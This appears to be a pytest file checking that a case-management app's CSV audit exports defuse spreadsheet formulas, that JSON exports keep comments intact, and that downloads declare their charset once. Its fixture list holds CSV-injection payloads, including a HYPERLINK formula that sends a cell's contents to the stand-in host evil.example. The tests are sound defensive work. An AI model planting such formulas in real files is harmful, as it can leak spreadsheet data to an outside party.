"""A spreadsheet opening an export shows people's text and runs none of it; downloads name their charset once."""
from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caseflow.audit.cells import FORMULA_STARTS, from_spreadsheet_safe, spreadsheet_safe
from caseflow.audit.checks import check_export
from caseflow.documents.minipdf import text_pdf
from caseflow.documents.store import attach_document
from tests.factories import VETTING

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "'=1+1"]


@pytest.fixture
def hostile_case(cases):
    """A case whose history holds a comment for each way a spreadsheet starts a formula."""
    case = cases.propose()
    wf, actor = cases.workflow, cases.actor("reviewer")
    wf.fire(case.id, "vet", actor, VETTING, comment=FORMULAS[0])
    return case


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("url", ["/audit/cases/{id}/export", "/audit/export"])
def test_a_formula_in_a_comment_reaches_the_csv_as_text(client, sign_in, hostile_case, url):
    sign_in("auditor")
    text = client.get(url.format(id=hostile_case.id), query_string={"format": "csv"}).get_data(as_text=True)
    assert "'" + FORMULAS[0] in cells(text)
    assert not [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
    assert check_export(text).problems == []  # the check reads the comment back as it was hashed


@pytest.mark.parametrize("url", ["/audit/cases/{id}/export", "/audit/export"])
def test_the_json_export_keeps_the_comment_exactly(client, sign_in, hostile_case, url):
    sign_in("auditor")
    document = json.loads(client.get(url.format(id=hostile_case.id), query_string={"format": "json"}).get_data())
    assert FORMULAS[0] in [record["comment"] for record in document["records"]]


@settings(max_examples=300, deadline=None)
@given(st.text() | st.sampled_from(FORMULAS))
def test_every_cell_is_safe_and_reads_back_as_it_was(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS) and from_spreadsheet_safe(safe) == value


def test_every_text_download_names_its_charset_once(app, client, sign_in, cases, users):
    case = cases.propose()
    csv_doc = attach_document(case, "other", "figures.csv", b"a,b\n1,2\n", users["officer"])
    txt_doc = attach_document(case, "other", "notes.txt", b"Some notes.\n", users["officer"])
    pdf_doc = attach_document(case, "other", "a.pdf", text_pdf(["A"]), users["officer"])
    sign_in("auditor")
    downloads = [f"/audit/cases/{case.id}/export?format=csv", f"/audit/cases/{case.id}/export?format=json",
                 "/audit/export?format=csv", "/audit/export?format=json"]
    downloads += [f"/cases/{case.id}/documents/{d.id}" for d in (csv_doc, txt_doc, pdf_doc)]
    for url in downloads:
        response = client.get(url)
        content_type = response.headers["Content-Type"]
        response.close()
        assert response.status_code == 200 and content_type.count("charset") <= 1, (url, content_type)
        if content_type.startswith("text/"):
            assert content_type.endswith("; charset=utf-8"), (url, content_type)
